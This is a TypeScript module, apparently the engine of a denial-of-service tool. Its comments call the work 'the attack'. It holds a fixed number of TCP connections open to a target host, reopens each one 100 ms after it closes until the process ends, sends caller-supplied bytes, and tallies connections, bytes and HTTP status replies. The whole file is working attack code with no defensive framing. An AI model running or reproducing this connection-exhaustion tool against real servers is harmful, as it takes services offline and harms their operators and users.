import { connect, type Socket } from 'node:net';

export interface Target {
  readonly host: string;
  readonly port: number;
  /** The address of this machine from which the attack comes. */
  readonly from: string;
}

/** What an attack did so far. */
export interface Tally {
  /** Connections that were opened. */
  opened: number;
  /** Connections that are open now. */
  open: number;
  sentBytes: number;
  /** Number of answers by status. */
  readonly answers: Record<number, number>;
}

const AGAIN_MS = 100;

/** Keeps `count` connections open until the process ends: one that is closed is opened again. Each begins with `begin`. */
export function keepOpen(target: Target, count: number, tally: Tally, begin: (socket: Socket) => void): void {
  const open = () => {
    const socket = connect({ host: target.host, port: target.port, localAddress: target.from });
    socket.on('error', () => {}); // `close` follows
    socket.once('connect', () => {
      tally.opened++;
      tally.open++;
      socket.once('close', () => tally.open--);
      begin(socket);
    });
    socket.on('data', (answer: Buffer) => countAnswers(answer, tally));
    socket.once('close', () => setTimeout(open, AGAIN_MS));
  };
  for (let index = 0; index < count; index++) open();
}

/** Writes, and counts the bytes that were given to the connection. */
export function send(socket: Socket, bytes: Buffer, tally: Tally): boolean {
  if (socket.destroyed) return false;
  tally.sentBytes += bytes.length;
  return socket.write(bytes);
}

function countAnswers(answer: Buffer, { answers }: Tally): void {
  for (const [, status = ''] of answer.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3}) /g)) {
    answers[Number(status)] = (answers[Number(status)] ?? 0) + 1;
  }
}
